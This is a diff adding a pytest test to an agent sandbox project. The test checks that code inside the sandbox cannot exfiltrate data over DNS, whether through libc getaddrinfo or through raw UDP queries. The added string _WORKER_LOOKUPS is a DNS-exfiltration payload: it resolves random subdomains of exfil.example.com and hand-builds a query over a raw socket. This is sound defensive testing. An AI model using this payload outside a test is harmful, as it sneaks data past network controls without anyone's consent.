@@ -321,3 +321,61 @@ def test_a_denied_name_is_refused_by_address_through_the_proxy(fake_dns: FakeDNS
         assert all(d.rule == "net.connect" and "denied.test" in d.detail for d in denials)
     finally:
         route.close()
+
+
+# -- the worker's own resolver route ----------------------------------------------------------
+
+_WORKER_LOOKUPS = r"""
+import ctypes, secrets, socket, struct
+res = ctypes.c_void_p()
+failed = 0
+for _ in range({n}):
+    name = (secrets.token_hex(8) + ".exfil.example.com").encode()
+    if _libc.getaddrinfo(name, None, None, ctypes.byref(res)) != 0:
+        failed += 1
+    else:
+        _libc.freeaddrinfo(res)
+def query(name):
+    labels = b"".join(bytes([len(p)]) + p for p in name.split(b"."))
+    return b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00\x00\x01\x00\x01"
+udp = _libc.socket(2, 2, 0)
+udp_errno = ctypes.get_errno() if udp < 0 else 0
+sent = -1
+if udp >= 0:
+    addr = struct.pack("<HH4s8x", 2, socket.htons({port}), bytes([127, 0, 0, 1]))
+    data = query(b"raw.exfil.example.com")
+    sent = _libc.sendto(udp, data, len(data), 0, addr, len(addr))
+    _libc.close(udp)
+(failed, udp_errno, sent)
+"""
+
+
+@pytest.mark.parametrize("provider", ["bwrap", "unshare"])
+def test_the_workers_own_lookups_never_reach_a_resolver(
+    provider: str, fake_dns: FakeDNS, arena: dict[str, Any]
+) -> None:
+    """It denies DNS exfiltration past the proxy: with the Python guards off, code calling
+    libc's `getaddrinfo` for 1000 random names and sending a DNS query over a raw datagram
+    socket to the fake server's address gets no answer (every lookup fails; seccomp
+    refuses the datagram socket) and the fake DNS server on the host counts zero queries.
+    The counter works: the same query sent from the host reaches it."""
+    from .conftest import NATIVE, hostile_policy, skip_unless_available
+
+    skip_unless_available(provider)
+    from agent_sandbox import Sandbox
+
+    policy = hostile_policy(
+        arena, provider=provider, net={"rules": [{"host": "203.0.113.7", "ports": "443"}]}
+    )
+    with Sandbox(policy, warm=0) as sb:
+        result = sb.run(NATIVE + _WORKER_LOOKUPS.format(n=1000, port=fake_dns.address[1]))
+    assert result.error is None, result.error
+    failed, udp_errno, sent = result.value
+    assert failed == 1000  # the attack ran: 1000 lookups, none answered
+    assert udp_errno == 1 and sent == -1, result.value  # EPERM: seccomp, below Python
+    assert fake_dns.queries == []
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:  # the control case
+        udp.sendto(_egress._dns_query(1, "control.example.com", 1), fake_dns.address)
+        udp.settimeout(5)
+        udp.recv(512)
+    assert fake_dns.queries == ["control.example.com"]
